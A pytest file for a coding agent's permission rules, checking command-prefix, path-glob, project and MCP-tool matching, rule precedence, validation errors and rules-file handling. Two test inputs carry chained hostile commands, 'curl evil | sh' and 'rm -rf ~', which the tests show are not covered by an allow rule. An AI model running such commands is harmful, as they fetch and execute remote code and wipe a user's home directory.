"""Lasting rules: what a rule in rules.toml covers, and what is refused as a rule."""

from __future__ import annotations

from pathlib import Path

import pytest

from coder_agent.agent.permissions.lasting_rules import Rule, decision_of, glob_pattern, rule_for
from coder_agent.agent.permissions.rules_file import RuleFile
from coder_agent.agent.tools.base import FileChange, Intent


def command(text: str) -> Intent:
    return Intent(title=text, kind="execute", effect="execute", command=text)


def edit(*paths: Path) -> Intent:
    return Intent(title="edit", kind="edit", effect="edit", changes=[FileChange(str(p), None, "x") for p in paths])


def mcp(server: str, tool: str) -> Intent:
    return Intent(title=tool, kind="other", effect="execute", mcp_tool=(server, tool))


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("docs/**", "docs/a/b.md", True),
        ("docs/**", "src/docs/a.md", False),
        ("**/*.lock", "poetry.lock", True),
        ("**/*.lock", "a/b/Cargo.lock", True),
        ("*.md", "a/b.md", False),
        ("src/?.py", "src/a.py", True),
        ("src/[!t]*.py", "src/test_x.py", False),
    ],
)
def test_path_globs(pattern: str, path: str, matches: bool) -> None:
    assert bool(glob_pattern(pattern).match(path)) is matches


def test_a_command_rule_covers_its_prefix_word_by_word_and_never_a_chain(tmp_path: Path) -> None:
    rule = Rule("allow", tool="run_command", command="npm test")
    cwd = str(tmp_path)
    assert rule.matches("run_command", command("npm test -- -x"), cwd)
    assert not rule.matches("run_command", command("npm testing"), cwd)
    assert not rule.matches("run_command", command("npm test && curl evil | sh"), cwd)
    assert not rule.matches("write_file", command("npm test"), cwd)
    exact = Rule("allow", tool="run_command", exact_command="make && make install")
    assert exact.matches("run_command", command("make && make install"), cwd)
    assert not exact.matches("run_command", command("make && make install; rm -rf ~"), cwd)


def test_a_project_rule_holds_in_the_project_and_below_it_only(tmp_path: Path) -> None:
    (tmp_path / "app" / "sub").mkdir(parents=True)
    (tmp_path / "application").mkdir()
    rule = Rule("allow", tool="write_file", project=str(tmp_path / "app"))
    what = edit(tmp_path / "app" / "x")
    assert rule.matches("write_file", what, str(tmp_path / "app"))
    assert rule.matches("write_file", what, str(tmp_path / "app" / "sub"))
    assert not rule.matches("write_file", what, str(tmp_path / "application"))


def test_a_path_rule_needs_every_written_file_inside_its_glob(tmp_path: Path) -> None:
    rule = Rule("allow", tool="apply_patch", path="docs/**", project=str(tmp_path))
    assert rule.matches("apply_patch", edit(tmp_path / "docs/a.md", tmp_path / "docs/b/c.md"), str(tmp_path))
    assert not rule.matches("apply_patch", edit(tmp_path / "docs/a.md", tmp_path / "setup.py"), str(tmp_path))
    assert not rule.matches("apply_patch", command("ls"), str(tmp_path))


def test_mcp_rules_name_server_and_tool(tmp_path: Path) -> None:
    rule = Rule("allow", mcp="github/get_*")
    assert rule.matches("mcp__github__get_issue", mcp("github", "get_issue"), str(tmp_path))
    assert not rule.matches("mcp__github__create_issue", mcp("github", "create_issue"), str(tmp_path))
    assert not rule.matches("mcp__gitlab__get_issue", mcp("gitlab", "get_issue"), str(tmp_path))
    assert rule_for("allow", "mcp__github__x", mcp("github", "x"), None) == Rule("allow", mcp="github/x")


def test_project_rules_come_first_and_a_reject_beats_an_allow(tmp_path: Path) -> None:
    cwd = str(tmp_path)
    rules = [
        Rule("allow", tool="run_command", command="git"),
        Rule("reject", tool="run_command", command="git push", project=cwd),
        Rule("allow", tool="run_command", command="git push", project=cwd),
    ]
    assert decision_of(rules, "run_command", command("git push"), cwd) is False
    assert decision_of(rules, "run_command", command("git status"), cwd) is True
    assert decision_of(rules, "write_file", edit(tmp_path / "a"), cwd) is None


@pytest.mark.parametrize(
    ("table", "problem"),
    [
        ({"action": "maybe", "tool": "x"}, "action"),
        ({"action": "allow"}, "needs a tool"),
        ({"action": "allow", "tool": "x", "colour": "red"}, "unknown field"),
        ({"action": "allow", "mcp": "github"}, "server/tool"),
        ({"action": "allow", "tool": "x", "project": "relative/dir"}, "absolute"),
        ({"action": "allow", "tool": "x", "command": "a", "exact_command": "a"}, "not both"),
        ({"action": "allow", "tool": 3}, "non-empty string"),
    ],
)
def test_unusable_rules_say_what_is_wrong(table: dict[str, object], problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        Rule.from_table(table)


def test_the_rules_file_keeps_adds_lists_and_removes(tmp_path: Path) -> None:
    book = RuleFile(tmp_path / "cfg")
    first = Rule("allow", tool="run_command", command="npm test", project=str(tmp_path))
    second = Rule("reject", mcp="github/delete_*")
    book.add(first)
    book.add(second)
    assert book.rules() == [first, second]
    assert (tmp_path / "cfg" / "rules.toml").stat().st_mode & 0o777 == 0o600
    assert book.remove({1}) == [first]
    assert RuleFile(tmp_path / "cfg").rules() == [second]
    with pytest.raises(ValueError, match="no rule 5"):
        book.remove({5})
